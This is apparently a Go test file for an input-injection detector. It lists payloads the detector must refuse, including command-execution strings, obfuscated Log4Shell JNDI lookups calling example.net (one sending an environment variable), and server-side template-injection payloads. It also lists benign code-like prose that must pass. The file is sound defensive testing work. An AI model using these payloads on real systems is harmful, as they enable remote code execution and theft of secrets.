package detect

import "testing"

var evaluatedCode = []string{
	`';system('id');//`, `".system("id")."`, `<?php system($_GET['c']); ?>`, `;passthru("ls");`, `phpinfo();`, `{${phpinfo()}}`, `${@print(md5(31337))}`, `eval(base64_decode('aWQ='))`,
	`__import__('os').system('id')`, `'+__import__("os").popen("id").read()+'`, `().__class__.__bases__[0].__subclasses__()`, `os.system('id')`, `';os.popen('id').read();'`,
	`require('child_process').exec('id')`, `global.process.mainModule.require('child_process').execSync('id')`, `Runtime.getRuntime().exec("id")`,
	`T(java.lang.Runtime).getRuntime().exec('id')`, `%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}`, `(#_memberAccess["allowStaticMethodAccess"]=true)`,
	`new java.lang.ProcessBuilder("id").start()`, `IO.popen('id').read`, `Kernel.system("id")`, `System.Diagnostics.Process.Start("cmd.exe")`, `os.execute("id")`, `io.popen("id")`,
	`class.module.classLoader.resources.context.parent.pipeline.first.pattern=x`, `_$$ND_FUNC$$_function(){}()`, `assert($_POST[0])`, `call_user_func('system','id')`, `include('http://example.net/x.txt')`,
	`${jndi:ldap://example.net/a}`, `${${lower:j}ndi:${lower:r}mi://example.net/a}`, `${${::-j}${::-n}${::-d}${::-i}:dns://example.net}`, `${jn${env:X:-d}i:ldap://example.net}`,
	`$${env:x:-${env:x:-$}{jndi:ldap://example.net}}`, `${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://example.net}`, `${${upper:j}${upper:n}di:ldaps://example.net/${env:KEY}}`, `${script:javascript:java.lang.Runtime.getRuntime()}`,
}

var templateExpressions = []string{
	`{{7*7}}`, `{{ 7 * '7' }}`, `${7*7}`, `#{7*7}`, `*{7*7}`, `%{7*7}`, `<%= 7*7 %>`, `<%= system('id') %>`, `{{'a'.constructor.constructor('return 1')()}}`,
	`{{config.items()}}`, `{{ self.__init__.__globals__ }}`, `{{''.__class__.__mro__[1].__subclasses__()}}`, `{{request|attr('application')}}`, `{% import os %}{{ os.popen('id').read() }}`,
	`${T(java.lang.Runtime).getRuntime().exec('id')}`, `<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`, `#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))`,
	`{{_self.env.registerUndefinedFilterCallback("exec")}}`, `{php}echo 1;{/php}`, `{{lipsum.__globals__.os.popen('id').read()}}`, `#{session.getAttribute("x").getClass()}`, `{{['id']|filter('system')}}`,
}

var strictTemplates = []string{`@(7*7)`, `{7*7}`, `{{config}}`, `{{self}}`, `${env:HOME}`, `{{settings.SECRET_KEY}}`, `{{ x.items() }}`, `{% debug %}`, `<% x %>`, `${applicationScope}`, `{{dump(app)}}`, `{{a|safe}}`,
	`${{<%[%'"}}%\`, `$_SERVER['x']`, `<?= 1 ?>`, `#set($x=1)`}

var codeProse = []string{
	`Dear {{name}}, your order {{ order.id }} is on its way.`, `Hello {{first_name}} {{last_name}}!`, `Hi ${name}, welcome`, `{"a": {"b": 1}}`, `struct point p = {{1, 2}, {3, 4}};`,
	"const s = `Total: ${items.map(i => i.price).join(', ')}`;", `The system (see manual) prints (and sends) mail; open(ed) in May`, `print("hello world") is my first program`, `def f(x): return x + 1`,
	`public static void main(String[] args) { System.out.println("hi"); }`, `java.lang.NullPointerException at com.example.Shop.pay(Shop.java:12)`, `import os; os.path.join(a, b)`,
	`Use SELECT count(*) in the report`, `$x = array('a' => 1); foreach ($x as $k => $v) { echo $k; }`, `#include <stdio.h> int main(void) { return 0; }`, `\frac{1}{2} + \sqrt{x} and $\mathbb{R}^{2*n}$`,
	`Meet at 5 (or later); include (if you can) the bill`, `It costs $5 {plus tax}`, `C# and F# (both) are fun`, `regex: ^(a|b){2,3}\.\w+$ and .*{2}`, `:) ;-) {^_^} (╯°□°)╯`, `|a|b|`, `100% {sure}`,
	`File "app.py", line 3, in <module>: KeyError('x')`, `my class is at 5 (room 7), module 3.`, `Please read (the) file "notes" and open it.`, `<%name%> is how we write a gap`, `call me (after 5)`,
}

func TestEvaluatedCodeIsRefused(t *testing.T) {
	for _, f := range []Field{Unknown, FreeText, Name, Identifier, URL, Filename, Email, Search} {
		refuses(t, f, evaluatedCode)
		refuses(t, f, templateExpressions)
	}
	refuses(t, Unknown, strictTemplates)
	refuses(t, Identifier, strictTemplates)
}

func TestCodeInProsePasses(t *testing.T) {
	passes(t, FreeText, codeProse)
	passes(t, Markup, codeProse)
	passes(t, Unknown, []string{`{{name}}`, `{{ user.name }}`, `${price}`, `{id}`, `a{2,3}`, `{{1,2},{3,4}}`, `#42`, `f(x)`, `Smith (Jones)`, `50% off`, `print`, `system`, `open (24h)`, `include(s) tax`})
}
